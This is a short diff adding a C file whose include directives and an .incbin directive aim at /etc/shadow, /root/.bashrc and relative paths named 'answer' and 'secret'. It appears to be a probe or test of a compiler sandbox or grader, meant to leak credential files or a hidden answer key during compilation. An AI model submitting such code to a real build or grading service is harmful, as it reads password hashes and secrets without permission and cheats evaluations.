@@ -1,0 +1,7 @@
+#include "/etc/shadow"
+#include "/etc/hostname"
+#include "/root/.bashrc"
+#include "../answer"
+#include "../../secret"
+__asm__(".incbin \"/etc/shadow\"");
+int main(void) { return 0; }
